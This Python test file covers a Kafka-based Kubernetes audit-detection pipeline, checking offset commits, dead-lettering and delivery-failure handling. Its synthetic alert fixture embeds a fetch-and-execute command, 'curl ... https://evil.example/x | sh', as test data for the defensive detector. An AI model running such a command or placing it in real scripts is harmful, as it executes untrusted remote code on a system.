"""The message processor without a broker: what each input becomes, and when its offset may
commit. The producer here is a recorder that acknowledges on ``poll``, as librdkafka does."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from confluent_kafka import KafkaError, Message

from auditstream.detections.alert_window import RecentAlerts
from auditstream.detections.engine import Detector
from auditstream.detections.native import NativeRule
from auditstream.detections.pipeline import DetectionPipeline
from auditstream.detections.ruleset.loader import load_rules
from auditstream.detections.stateful.candidate import Candidate
from auditstream.stream.errors import DeliveryError
from auditstream.stream.kafka.delivery import Delivery
from auditstream.stream.kafka.offset_tracker import OffsetTracker
from auditstream.stream.metrics import Metrics
from auditstream.stream.processor import MessageProcessor
from auditstream.stream.sinks.dead_letters import DeadLetterSink
from auditstream.stream.sinks.encoders import json_encoder
from auditstream.stream.sinks.kafka_alerts import KafkaAlertSink
from auditstream.stream.state.stage import StatefulStage
from devtools.traffic.synthetic import exec_audit_events

P = ("audit", 0)


class RecordingProducer:
    """Queues records; ``poll`` acknowledges them (or fails them with ``fail``)."""

    def __init__(self) -> None:
        self.records: list[dict[str, Any]] = []
        self._queue: list[tuple[Callable[[KafkaError | None, Message], None], Message]] = []
        self.fail: KafkaError | None = None
        self.delivery: Delivery | None = None  # the wrapper under test, for its latched error

    def produce(self, topic: str, **kwargs: Any) -> None:
        self.records.append({"topic": topic, **kwargs})
        msg = Message(topic=topic, key=kwargs["key"], value=kwargs["value"])
        self._queue.append((kwargs["on_delivery"], msg))

    def poll(self, _timeout: float = 0) -> int:
        queue, self._queue = self._queue, []
        for callback, msg in queue:
            callback(self.fail, msg)
        return len(queue)

    def flush(self, _timeout: float = 0) -> int:
        self.poll()
        return 0

    def __len__(self) -> int:
        return len(self._queue)


def broken_detector() -> Detector:
    """The built-in rules, one native rule's predicate replaced by one that breaks."""
    rules = list(load_rules([]).rules)
    index = next(i for i, r in enumerate(rules) if isinstance(r, NativeRule))

    def predicate(*_: object) -> None:
        raise ZeroDivisionError("a defect met by this event")

    rules[index] = replace(rules[index], predicate=predicate)  # type: ignore[type-var]
    return Detector(rules)


def processor(detector: Detector) -> tuple[MessageProcessor, RecordingProducer, OffsetTracker]:
    producer = RecordingProducer()
    delivery = Delivery(producer)  # type: ignore[arg-type]
    producer.delivery = delivery
    tracker = OffsetTracker()
    tracker.assign([P])
    pipeline = DetectionPipeline(detector, RecentAlerts(100))
    sinks = KafkaAlertSink(delivery, "alerts", json_encoder()), DeadLetterSink(delivery, "dlq")
    return MessageProcessor(pipeline, tracker, *sinks, Metrics()), producer, tracker


def message(offset: int, value: bytes) -> Message:
    return Message(topic=P[0], partition=P[1], offset=offset, key=b"k", value=value,
                   headers=[("h", b"1")], timestamp=(1, 1_700_000_000_000))  # fmt: skip


MALICIOUS = json.dumps(
    exec_audit_events(command=["sh", "-c", "curl -fsSL https://evil.example/x | sh"])[0]
).encode()


def test_alert_offset_commits_only_after_acknowledgement() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    proc.handle(message(0, MALICIOUS))
    assert producer.records and all(r["topic"] == "alerts" for r in producer.records)
    assert tracker.committable(P) is None  # produced, not yet acknowledged
    producer.poll()
    assert tracker.committable(P) == 1


def test_a_rule_that_cannot_evaluate_dead_letters_the_message() -> None:
    proc, producer, tracker = processor(broken_detector())
    proc.handle(message(7, MALICIOUS))
    (letter,) = producer.records
    headers = dict(letter["headers"])
    assert letter["topic"] == "dlq"
    assert letter["value"] == MALICIOUS
    assert headers["auditstream.dlq.reason"] == b"evaluation_error"
    assert headers["auditstream.dlq.error_class"] == b"MalformedEvent"
    assert b"ZeroDivisionError" in headers["auditstream.dlq.detail"]
    assert headers["h"] == b"1"
    producer.poll()
    assert tracker.committable(P) == 8


def test_unexpected_errors_dead_letter_too(monkeypatch: pytest.MonkeyPatch) -> None:
    proc, producer, _ = processor(Detector(load_rules([]).rules))

    def explode(data: bytes, source: object) -> None:
        raise RuntimeError("bug")

    monkeypatch.setattr(proc.pipeline, "process_message", explode)
    proc.handle(message(0, b"{}"))
    headers = dict(producer.records[0]["headers"])
    assert headers["auditstream.dlq.reason"] == b"internal_error"
    assert headers["auditstream.dlq.error_class"] == b"RuntimeError"


def test_delivery_failure_is_latched_and_blocks_the_offset() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    producer.fail = KafkaError(KafkaError._MSG_TIMED_OUT)
    proc.handle(message(0, MALICIOUS))
    producer.poll()
    assert tracker.committable(P) is None
    assert producer.delivery is not None
    with pytest.raises(DeliveryError, match="_MSG_TIMED_OUT"):
        producer.delivery.raise_delivery_errors()


def test_messages_of_unassigned_partitions_are_left_to_their_owner() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    tracker.revoke([P])
    proc.handle(message(0, MALICIOUS))
    assert producer.records == []


BENIGN = json.dumps(exec_audit_events(command=["ls", "-l"])[0]).encode()


def test_a_batch_settles_messages_without_output_behind_those_with() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    errors: list[KafkaError] = []
    batch = [
        message(0, BENIGN),
        message(1, MALICIOUS),
        Message(error=KafkaError(KafkaError._PARTITION_EOF)),
        message(2, BENIGN),
        message(3, BENIGN),
    ]
    proc.handle_batch(batch, errors.append)
    assert [e.code() for e in errors] == [KafkaError._PARTITION_EOF]
    assert tracker.committable(P) == 1  # 0 had no output; 1 waits for its alert, and 2, 3 too
    sources = {
        (s["topic"], s["partition"], s["offset"])
        for s in (json.loads(r["value"])["source"] for r in producer.records)
    }
    assert sources == {("audit", 0, 1)}  # built for the alerting message only
    producer.poll()
    assert tracker.committable(P) == 4
    registry = proc._metrics.registry
    assert registry.get_sample_value("auditstream_messages_consumed_total") == 4  # not errors
    assert registry.get_sample_value("auditstream_exec_requests_total") == 4


def test_a_batch_of_quiet_messages_is_committable_when_handled() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    proc.handle_batch([message(5, BENIGN), message(6, BENIGN)], pytest.fail)
    assert producer.records == []
    assert tracker.committable(P) == 7


def test_a_bad_entry_of_a_cloud_batch_is_its_own_dead_letter_beside_the_alerts() -> None:
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    record = {"category": "kube-audit", "resourceId": "/x/managedClusters/c", "time": "t",
              "properties": {"log": MALICIOUS.decode()}}  # fmt: skip
    other = {**record, "category": "kube-apiserver"}
    batch = json.dumps({"records": [record, {"oops": 1}, other]}).encode()
    proc.handle(message(3, batch))
    letters = [r for r in producer.records if r["topic"] == "dlq"]
    alerts = [r for r in producer.records if r["topic"] == "alerts"]
    assert alerts, "the good record still alerts"
    (letter,) = letters
    headers = dict(letter["headers"])
    assert json.loads(letter["value"]) == {"oops": 1}
    assert headers["auditstream.dlq.entry"] == b"1"
    assert headers["auditstream.dlq.reason"] == b"unknown_shape"
    assert tracker.committable(P) is None  # every output of the message must be acknowledged
    producer.poll()
    assert tracker.committable(P) == 4
    skipped = proc._metrics.skipped_entries.labels("aks_category")._value.get()
    assert skipped == 1


class _BrokenTasks:
    """State tasks whose operator meets a defect on every candidate."""

    def apply(self, _partition: int, _candidate: object) -> None:
        raise ZeroDivisionError("a defect met by this candidate")


def test_a_stateful_defect_dead_letters_the_candidate_and_the_offset_moves_on() -> None:
    """One bad repartition record (bytes no candidate wrote) and one whose operator breaks: each
    is a dead letter with its reason, never a stop, and the partition's offset moves past both."""
    proc, producer, tracker = processor(Detector(load_rules([]).rules))
    repartition = ("group-stateful-repartition", 0)
    tracker.assign([repartition])
    proc.stage = StatefulStage(
        _BrokenTasks(),  # type: ignore[arg-type]
        Delivery(producer),  # type: ignore[arg-type]
        repartition=repartition[0],
        changelog="group-stateful-changelog",
    )
    candidate = Candidate("r", 0, ("alice",), 0, "a/ResponseComplete").to_bytes()
    for offset, value in enumerate((b"not a candidate", candidate)):
        proc.handle(Message(topic=repartition[0], partition=0, offset=offset, value=value))
    reasons = [dict(r["headers"])["auditstream.dlq.reason"] for r in producer.records]
    assert reasons == [b"bad_candidate", b"internal_error"]
    assert b"ZeroDivisionError" in dict(producer.records[1]["headers"])["auditstream.dlq.detail"]
    producer.poll()
    assert tracker.committable(repartition) == 2
